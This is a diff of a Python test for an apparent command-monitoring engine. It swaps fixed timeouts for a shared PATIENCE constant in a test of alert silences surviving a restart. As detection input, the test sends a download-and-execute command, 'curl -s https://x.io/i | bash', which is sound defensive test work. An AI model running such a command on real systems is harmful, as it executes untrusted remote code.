@@ -9,6 +9,7 @@ import sys
 import time
 
 from tests.engine.test_live_engine import TOKEN, Engine, send_command, send_pipe_to_shell
+from tests.patience import PATIENCE
 
 ROUTING = (
     "notifiers: {receivers: [{name: out, type: file, path: notified.jsonl}]}\n"
@@ -23,7 +24,7 @@ def silence_with_the_cli(base: str) -> None:
         capture_output=True,
         text=True,
         env={**os.environ, "SPANWATCH_API_TOKEN": TOKEN},
-        timeout=60,
+        timeout=PATIENCE,
     )
     assert done.returncode == 0, done.stderr
 
@@ -43,7 +44,7 @@ def test_a_silence_is_listed_and_still_mutes_after_a_restart_even_after_sigkill(
     e.start()
     try:
         silence_with_the_cli(e.base)
-        deadline = time.monotonic() + 20
+        deadline = time.monotonic() + PATIENCE
         while time.monotonic() < deadline and not listed(e):
             time.sleep(0.1)
         assert listed(e) == ["quiet-for-muted"]
@@ -56,7 +57,7 @@ def test_a_silence_is_listed_and_still_mutes_after_a_restart_even_after_sigkill(
         e.wait_for(lambda i: i["group"].get("user") == "muted-user", "the silenced incident")
         send_command(e.otlp, "loud-user", "curl -s https://x.io/i | bash")
         e.wait_for(lambda i: i["group"].get("user") == "loud-user", "the other incident")
-        deadline = time.monotonic() + 30
+        deadline = time.monotonic() + PATIENCE
         while time.monotonic() < deadline and "loud-user" not in read(notified):
             time.sleep(0.2)
         text = read(notified)
